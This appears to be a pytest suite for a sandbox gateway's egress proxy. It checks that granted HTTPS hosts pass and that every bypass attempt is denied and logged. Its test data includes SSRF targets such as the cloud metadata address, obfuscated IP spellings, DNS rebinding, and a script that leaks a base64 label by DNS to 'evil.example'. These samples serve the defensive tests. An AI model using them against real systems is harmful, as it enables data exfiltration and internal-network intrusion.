"""Egress, whole: a real Python MCP server in a real sandbox, a real HTTPS server, the real ledger."""

from __future__ import annotations

import os
import signal
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from ipaddress import ip_network
from pathlib import Path
from typing import Any

import anyio
import anyio.lowlevel
import pytest

from gateway.cli.audit import record_line
from gateway.core.calls import LOCAL, Answered, Front, ToolCall
from gateway.core.episode import Submit
from gateway.runtime.audit import query, verify
from gateway.runtime.episodes import Episodes, ResetRequest
from gateway.runtime.gateway import Gateway, GatewaySettings
from gateway.runtime.pool_shelf import PoolSettings
from gateway.runtime.sessions import Session, new_call_id
from gateway.sandbox.contract import SandboxDriver
from gateway.sandbox.drivers import make_driver
from gateway.sandbox.egress import EgressGate, EgressSettings
from tests.support.docker_engine import provide_engine, require_gvisor
from tests.support.gateways import copy_pack, served
from tests.support.launchers import launchers
from tests.support.ledgers import records_of
from tests.support.tls import authority, https_server

LOOPBACK = ip_network("127.0.0.0/8")
HOSTS = {
    "a.web.example": ["127.0.0.1"],
    "private.web.example": ["10.0.0.1"],
    "mapped.web.example": ["::ffff:169.254.169.254"],
    "six.web.example": ["::1"],
    "mixed.web.example": ["127.0.0.1", "169.254.169.254"],
    "metadata.example": ["169.254.169.254"],
}


@dataclass
class Net:
    """A session of the pack `net`, and the HTTPS server that stands for the internet."""

    gateway: Gateway
    session: Session
    port: int

    async def call(self, tool: str, **arguments: Any) -> Any:
        done = await self.gateway.call(self.session, ToolCall(new_call_id(), tool, arguments, Front.CLI))
        assert isinstance(done, Answered), done
        content: Any = done.result["content"]
        return content[0]["text"]

    async def connect(self, target: str) -> str:
        """Return the first line of the proxy's answer to CONNECT."""
        answer = await self.call("say", hex_bytes=f"CONNECT {target} HTTP/1.1\r\n\r\n".encode().hex())
        return str(answer).partition("\r\n")[0]


async def lookup(host: str, port: int) -> list[str]:
    if host not in HOSTS:
        raise OSError("no such name")
    return HOSTS[host]


@asynccontextmanager
async def net(
    tmp_path: Path,
    limits: EgressSettings | None = None,
    manifest: str = "",
    phones: str | None = None,
    **more: Any,
) -> AsyncGenerator[Net]:
    """Serve the pack; `manifest` is another line about its server, `phones` what that calls as it starts."""
    pack = copy_pack("net", tmp_path).folder
    if phones is not None:
        server = pack / "servers" / "net.py"
        call = f"import socket\nsocket.socket().connect_ex(({phones!r}, 443))\n"
        (server.parent / "phone.py").write_text(call)
        server.write_text(server.read_text().replace("import os\n", "import os\nimport phone\n", 1))
    authority(pack / "fixtures" / "start", "a.web.example")
    with https_server(pack / "fixtures" / "start") as port:
        for name in ("toolpack.yaml", "policy.yaml"):
            text = (pack / name).read_text().replace("8443", str(port))
            text = text.replace("    call_timeout:", f"{manifest}    call_timeout:")
            (pack / name).write_text(text)
        gate = EgressGate(limits or EgressSettings((LOOPBACK,)), resolver=lookup)
        async with served(tmp_path, pack="net", gate=gate, **more) as gateway:
            await warmed(gateway)
            yield Net(gateway, await gateway.open_session("net", LOCAL), port)


async def warmed(gateway: Gateway) -> None:
    """Wait until a sandbox is kept ready, where some are to be."""
    with anyio.fail_after(30):
        while gateway.settings.pool.maximum and not gateway.readiness().detail["warm"]:
            await anyio.lowlevel.checkpoint()


def told(tmp_path: Path) -> list[tuple[str, str, str]]:
    """Return effect, code and what was asked of each decision about egress."""
    found = [record for record in records_of(tmp_path / "state") if record["event"] == "egress"]
    decided = [record for record in found if record["decision"]]
    return [(r["decision"]["effect"], r["decision"]["code"], r["egress"]["asked"]) for r in decided]


async def test_a_granted_host_and_port_work_over_https_and_are_in_the_ledger(tmp_path: Path) -> None:
    async with net(tmp_path) as here:
        url = f"https://a.web.example:{here.port}/"
        assert await here.call("fetch", url=url) == "a page over TLS"
        assert await here.call("fetch_as_clients_do", url=url) == "a page over TLS"
        session = here.session
    records = [r for r in records_of(tmp_path / "state") if r["event"] == "egress"]
    opened, closed = records[:2]
    assert opened["egress"] == {
        "asked": f"a.web.example:{here.port}",
        "host": "a.web.example",
        "protocol": "connect",
        "port": here.port,
        "addresses": ["127.0.0.1"],
        "attempts": 1,
    }
    assert (opened["session"], opened["principal"], opened["server"]) == (session.id, "local", "net")
    assert opened["decision"]["rule"] == f"*.web.example:{here.port}"
    assert f"net -> a.web.example:{here.port}  allow by *.web.example" in record_line(opened)
    assert closed["outcome"]["kind"] == "closed"
    assert closed["outcome"]["bytes"] > 0 < closed["outcome"]["sent"]
    report = verify(tmp_path / "state")
    assert report.ok
    assert report.open_calls == 0


@pytest.fixture(params=["docker", "gvisor", "process"])
def other_driver(request: pytest.FixtureRequest, tmp_path: Path) -> SandboxDriver:
    provide_engine(request)
    return make_driver(request.param, cache_dir=tmp_path / "cache")


async def test_every_other_driver_leads_to_the_same_proxy(
    other_driver: SandboxDriver, tmp_path: Path
) -> None:
    async with net(tmp_path, sandbox=other_driver) as here:
        assert await here.call("fetch", url=f"https://a.web.example:{here.port}/") == "a page over TLS"
        assert "403" in await here.connect(f"metadata.example:{here.port}")
        for host in ("127.0.0.1", "::1") if other_driver.name != "process" else ():
            assert "failed" in await here.call("connect", host=host, port=here.port)
    assert [(effect, code) for effect, code, _ in told(tmp_path)] == [
        ("allow", "granted"),
        ("deny", "address_refused"),
    ]


async def test_forks_have_a_way_out_each_of_its_own(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    limits = EgressSettings((LOOPBACK,), session_bytes=50_000)
    async with net(tmp_path, limits, manifest="    fork_server: true\n") as here:
        url = f"https://a.web.example:{here.port}"
        others = [Net(here.gateway, await here.gateway.open_session("net", LOCAL), 0) for _ in range(3)]
        async with anyio.create_task_group() as tasks:
            for number, one in enumerate(others):
                for _ in range(3):
                    tasks.start_soon(asks, one, f"own{number}.example:{here.port}")
        assert await others[0].call("fetch", url=url) == "a page over TLS"
        assert await others[1].call("fetch_as_clients_do", url=url) == "a page over TLS"
        assert "failed" in await others[0].call("fetch", url=f"{url}/size/100000")
        assert "429" in await others[0].connect(f"a.web.example:{here.port}")
        assert await others[2].call("fetch", url=url) == "a page over TLS"
        for one in others:
            await connects(one, "127.0.0.1", here.port)
            assert "fork_server.py" in await one.call("started")
    assert "is not forked" not in caplog.text
    found = [r for r in records_of(tmp_path / "state") if r["event"] == "egress" and r["decision"]]
    told_of = [one.session.id for one in others]
    refused = [r for r in found if r["egress"]["asked"].startswith("own")]
    assert len(refused) == 9
    assert all(r["session"] == told_of[int(r["egress"]["asked"][3])] for r in refused)
    spent = [r["session"] for r in found if r["decision"]["code"] == "budget_spent"]
    assert spent == [told_of[0]]


async def asks(here: Net, target: str) -> None:
    assert "403" in await here.connect(target)


async def test_every_way_around_is_refused_and_recorded(tmp_path: Path) -> None:
    refused: list[tuple[str, str]] = []
    async with net(tmp_path) as here:
        port = here.port

        async def refuses(target: str, code: str) -> None:
            status = await here.connect(target)
            assert status.split()[1] in ("400", "403", "502"), (target, status)
            refused.append((code, target))

        await refuses(f"private.web.example:{port}", "address_refused")
        await refuses(f"mapped.web.example:{port}", "address_refused")
        await refuses(f"six.web.example:{port}", "address_refused")
        await refuses(f"mixed.web.example:{port}", "address_refused")
        await refuses(f"metadata.example:{port}", "address_refused")
        await refuses(f"gone.web.example:{port}", "unresolved")
        await refuses(f"web.example:{port}", "not_granted")
        await refuses(f"evilweb.example:{port}", "not_granted")
        await refuses(f"a.web.example.evil.test:{port}", "not_granted")
        await refuses("a.web.example:443", "not_granted")
        await refuses("a.web.example:8444", "not_granted")  # needed, and not granted
        await refuses(f"127.0.0.1:{port}", "not_granted")
        await refuses("169.254.169.254:80", "not_granted")
        await refuses(f"localhost:{port}", "not_granted")
        await refuses(f"a.web.example.:{port}", "bad_host")
        await refuses(f"[::1]:{port}", "bad_host")
        for spelling in ("0x7f.1", "2130706433", "127.1", "0177.0.0.1"):
            await refuses(f"{spelling}:{port}", "bad_host")
        plain = await here.call("fetch", url=f"http://a.web.example:{port}/")
        assert "only CONNECT passes" in plain
        refused.append(("bad_request", f"GET http://a.web.example:{port}/ HTTP/1.1"))
        socks = await here.call("say", hex_bytes="050100")
        assert socks.startswith("HTTP/1.1 400")
        refused.append(("bad_request", "???"))
    assert told(tmp_path) == [("deny", code, asked) for code, asked in refused]
    denied = list(query(tmp_path / "state", effect="deny"))
    assert len(denied) == len(refused)
    assert verify(tmp_path / "state").ok


NO_GRANTS = "version: 1\nrules: [{id: all, allow: 'net.*'}]\n"
TRIED = {
    ("connect", "169.254.169.254", 80): "tcp 169.254.169.254:80",
    ("connect", "10.0.0.1", 22): "tcp 10.0.0.1:22",
    ("connect", "203.0.113.7", 443): "tcp 203.0.113.7:443",
    ("connect", "2001:db8::7", 443): "tcp [2001:db8::7]:443",
    ("connect", "::ffff:192.168.0.1", 80): "tcp 192.168.0.1:80",
    ("connect", "0xa9fea9fe", 81): "tcp 169.254.169.254:81",
    ("connect", "2852039166", 82): "tcp 169.254.169.254:82",
    ("connect", "10.1", 83): "tcp 10.0.0.1:83",
    ("datagram", "203.0.113.7", 53): "udp 203.0.113.7:53",
    ("datagram", "2001:db8::7", 123): "udp [2001:db8::7]:123",
    ("connect", "web.example", 443): "dns web.example",
}
"""What a server tries by itself, and how the ledger names it."""


@pytest.fixture(params=["cold", "forked", "docker"])
def kind(request: pytest.FixtureRequest, tmp_path: Path) -> dict[str, Any]:
    """How servers are started where what they try past the proxy is seen, as arguments of `net`."""
    if request.param != "docker":
        return {"manifest": "    fork_server: true\n" if request.param == "forked" else ""}
    if os.geteuid() != 0:
        pytest.skip("only root may listen in a container's network")
    provide_engine(request)
    return {"sandbox": make_driver("docker", cache_dir=tmp_path / "cache")}


@pytest.mark.parametrize("granted", [True, False])
async def test_past_the_proxy_everything_is_refused_and_recorded(
    granted: bool, kind: dict[str, Any], tmp_path: Path
) -> None:
    more: dict[str, Any] = {} if granted else {"policy": NO_GRANTS}
    async with net(tmp_path, **kind, **more) as here:
        for tool, host, port in TRIED:
            assert "failed" in await here.call(tool, host=host, port=port)
        assert "failed" in await here.call("resolve", host="a.web.example")
        assert "failed" in await here.call("connect", host="127.0.0.1", port=here.port)
        assert "failed" in await here.call("connect", host="::1", port=here.port)
        session = here.session
    found = [r for r in records_of(tmp_path / "state") if r["event"] == "egress"]
    asked = [record["egress"]["asked"] for record in found if record["egress"]["protocol"]]
    assert sorted(asked) == sorted([*TRIED.values(), "dns a.web.example"])
    assert {r["session"] for r in found} == {session.id}
    assert {(r["decision"]["effect"], r["decision"]["code"]) for r in found} == {("deny", "past_the_proxy")}
    metadata = next(r for r in found if r["egress"]["asked"] == "tcp 169.254.169.254:80")
    assert metadata["egress"] == {
        "asked": "tcp 169.254.169.254:80",
        "protocol": "tcp",
        "host": "169.254.169.254",
        "port": 80,
        "addresses": ["169.254.169.254"],
        "attempts": 1,
    }
    assert "net -> tcp 169.254.169.254:80  deny [past_the_proxy]" in record_line(metadata)
    assert len(list(query(tmp_path / "state", effect="deny"))) == len(found)
    assert verify(tmp_path / "state").ok


async def test_a_flood_past_the_proxy_is_counted_and_does_not_flood_the_ledger(
    kind: dict[str, Any], tmp_path: Path
) -> None:
    async with net(tmp_path, **kind) as here:
        assert await here.call("flood", host="203.0.113.7", ports=300, each=20) == "sent"
        assert "failed" in await here.call("connect", host="203.0.113.7", port=443)
        tally = here.gateway.readings.egress.decisions
    found = [r["egress"] for r in records_of(tmp_path / "state") if r["event"] == "egress"]
    assert len(found) <= 65
    assert found[-1]["protocol"] is None
    assert sum(each["attempts"] for each in found) == 300 * 20 + 1
    assert tally[("net", "net", "deny", "past_the_proxy")] == 300 * 20 + 1


async def test_what_two_sessions_try_is_not_mixed_up(kind: dict[str, Any], tmp_path: Path) -> None:
    async with net(tmp_path, **kind, policy=NO_GRANTS) as here:
        others = [Net(here.gateway, await here.gateway.open_session("net", LOCAL), 0) for _ in range(3)]
        async with anyio.create_task_group() as tasks:
            for number, one in enumerate(others):
                for port in range(5):
                    tasks.start_soon(connects, one, f"203.0.113.{number}", 1000 + port)
        told_of = {one.session.id: f"203.0.113.{number}" for number, one in enumerate(others)}
    found = [r for r in records_of(tmp_path / "state") if r["event"] == "egress"]
    assert len(found) == 15
    assert all(record["egress"]["host"] == told_of[record["session"]] for record in found)


async def connects(here: Net, host: str, port: int) -> None:
    assert "failed" in await here.call("connect", host=host, port=port)


async def test_what_gvisor_refuses_is_not_told(engine: str, tmp_path: Path) -> None:
    require_gvisor()
    async with net(tmp_path, sandbox=make_driver("gvisor", cache_dir=tmp_path / "cache")) as here:
        for tool, host, port in TRIED:
            assert "failed" in await here.call(tool, host=host, port=port)
    assert told(tmp_path) == []


CHECKED = """
id: checked
split: train
prompt: p
rubric:
  - check: {command: [python, -c, "import socket; socket.socket().connect_ex(('203.0.113.7', 443))"]}
  - check: {python: phone.py}
step_rewards:
  - reward: 0.5
    check: {command: [python, -c, "import socket; socket.socket().connect_ex(('10.0.0.1', 22))"]}
"""
PHONES = """import socket
try:
    socket.getaddrinfo("c2VjcmV0.evil.example", 443)
except OSError:
    print(1.0)
"""


@pytest.mark.parametrize("kind", ["cold", "docker"], indirect=True)
async def test_what_programs_of_checks_try_is_recorded_as_theirs(
    kind: dict[str, Any], tmp_path: Path
) -> None:
    folder = copy_pack("net", tmp_path).folder
    (folder / "tasks").mkdir()
    (folder / "tasks" / "checked.yaml").write_text(CHECKED)
    (folder / "phone.py").write_text(PHONES)
    with (folder / "toolpack.yaml").open("a") as manifest:
        manifest.write("env: {tasks: tasks/, submit: true}\n")
    async with net(tmp_path, **kind, settings=GatewaySettings(mode="training")) as here:
        held = Episodes(here.gateway, cache_dir=tmp_path / "cache")
        async with held.held("net", LOCAL, None) as session:
            await session.reset(ResetRequest(task="checked"))
            end = await session.step(Submit("done"))
        tally = here.gateway.readings.egress.decisions
    assert end.reward == 1.5
    metadata: Any = end.metadata
    paid, command, script = (each["check"] for each in (*metadata["step_rewards"], *metadata["rubric"]))
    found = [r for r in records_of(tmp_path / "state") if r["event"] == "egress"]
    assert [(r["server"], r["egress"]["asked"]) for r in found if r["egress"]["protocol"]] == [
        (f"check: {paid}", "tcp 10.0.0.1:22"),
        (f"check: {command}", "tcp 203.0.113.7:443"),
        (f"check: {script}", "dns c2VjcmV0.evil.example"),
    ]
    assert {(r["session"], r["episode"]) for r in found} == {(session.id, metadata["episode_id"])}
    assert {(r["decision"]["effect"], r["decision"]["code"]) for r in found} == {("deny", "past_the_proxy")}
    assert tally == {("net", "check", "deny", "past_the_proxy"): sum(r["egress"]["attempts"] for r in found)}


async def test_once_the_launcher_was_killed_the_next_one_sees_as_much(tmp_path: Path) -> None:
    async with net(tmp_path) as here:
        await connects(here, "203.0.113.7", 1)
        while not told(tmp_path):
            await anyio.lowlevel.checkpoint()
        (launcher,) = launchers()
        os.kill(launcher, signal.SIGKILL)
        here.session = await here.gateway.open_session("net", LOCAL)
        await connects(here, "203.0.113.7", 2)
    assert [asked for _, _, asked in told(tmp_path)] == ["tcp 203.0.113.7:1", "tcp 203.0.113.7:2"]


@pytest.mark.parametrize("manifest", ["", "    fork_server: true\n"])
async def test_what_a_server_tries_when_it_starts_is_recorded_before_it_is_anybody_s(
    manifest: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    settings = GatewaySettings(pool=PoolSettings(1, 1))
    more: dict[str, Any] = {"manifest": manifest, "policy": NO_GRANTS, "settings": settings}
    async with net(tmp_path, phones="203.0.113.7", **more) as here:
        await here.call("variables")
        while not (found := told(tmp_path)):
            await anyio.lowlevel.checkpoint()
    assert found[0] == ("deny", "past_the_proxy", "tcp 203.0.113.7:443")
    record = next(r for r in records_of(tmp_path / "state") if r["event"] == "egress")
    assert (record["session"], record["pack"], record["server"]) == (None, "net", "net")
    assert "is not forked" not in caplog.text


async def test_a_server_with_a_way_out_is_told_of_it(tmp_path: Path) -> None:
    async with net(tmp_path) as here:
        variables = dict(line.split("=", 1) for line in (await here.call("variables")).splitlines())
    names = {"HTTPS_PROXY", "HTTP_PROXY", "ALL_PROXY", "https_proxy", "http_proxy", "all_proxy"}
    assert names <= variables.keys()
    assert len({variables[name] for name in names}) == 1


async def test_a_name_is_resolved_once_and_what_was_checked_is_connected_to(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    answers = [["127.0.0.1"], ["169.254.169.254"]]
    monkeypatch.setitem(HOSTS, "rebinding.web.example", answers[0])

    class Rebinding(list[str]):
        """Answers otherwise the second time."""

        def __iter__(self) -> Any:
            return iter(answers.pop(0))

    monkeypatch.setitem(HOSTS, "rebinding.web.example", Rebinding())
    async with net(tmp_path) as here:
        target = f"rebinding.web.example:{here.port}"
        assert "200" in await here.connect(target)
        assert "403" in await here.connect(target)
        assert not answers
    assert [(effect, code) for effect, code, _ in told(tmp_path)] == [
        ("allow", "granted"),
        ("deny", "address_refused"),
    ]


async def test_without_a_listed_network_even_a_granted_name_does_not_lead_to_loopback(tmp_path: Path) -> None:
    async with net(tmp_path, EgressSettings()) as here:
        assert "403" in await here.connect(f"a.web.example:{here.port}")
    assert told(tmp_path) == [("deny", "address_refused", f"a.web.example:{here.port}")]


async def test_a_session_has_one_budget_of_bytes_and_the_next_session_another(tmp_path: Path) -> None:
    async with net(tmp_path, EgressSettings((LOOPBACK,), session_bytes=50_000)) as here:
        url = f"https://a.web.example:{here.port}"
        assert "failed" in await here.call("fetch", url=f"{url}/size/100000")
        assert "429" in await here.connect(f"a.web.example:{here.port}")
        here.session = await here.gateway.open_session("net", LOCAL)
        assert await here.call("fetch", url=url) == "a page over TLS"
    assert [code for _, code, _ in told(tmp_path)] == ["granted", "budget_spent", "granted"]
    kinds = [
        r["outcome"]["kind"]
        for r in records_of(tmp_path / "state")
        if r["event"] == "egress" and r["outcome"]
    ]
    assert kinds == ["budget_spent", "closed"]


async def test_a_warm_sandbox_is_recorded_as_its_session_s_once_it_is_somebody_s(tmp_path: Path) -> None:
    settings = GatewaySettings(pool=PoolSettings(1, 1))
    async with net(tmp_path, settings=settings) as here:
        assert "200" in await here.connect(f"a.web.example:{here.port}")
        owner = here.session.id
    sessions = [r["session"] for r in records_of(tmp_path / "state") if r["event"] == "egress"]
    assert set(sessions) == {owner}


async def test_without_a_written_grant_a_sandbox_has_no_proxy_at_all(tmp_path: Path) -> None:
    async with net(tmp_path, policy=NO_GRANTS) as here:
        assert await here.call("variables") == ""
        assert "failed" in await here.call("fetch", url=f"https://a.web.example:{here.port}/")
    assert told(tmp_path)[0] == ("deny", "past_the_proxy", "dns a.web.example")


async def test_a_secret_in_a_host_name_does_not_reach_the_ledger(tmp_path: Path) -> None:
    secret = "hush86399"
    async with net(tmp_path, secrets={"TOKEN": secret}) as here:
        assert "403" in await here.connect(f"{secret}.evil.example:443")
        assert "failed" in await here.call("resolve", host=f"{secret}.evil.example")
    found = [r for r in records_of(tmp_path / "state") if r["event"] == "egress"]
    assert secret not in str(found)
    assert ("deny", "past_the_proxy", "dns [secret].evil.example") in told(tmp_path)
    assert ("deny", "not_granted", "[secret].evil.example:443") in told(tmp_path)
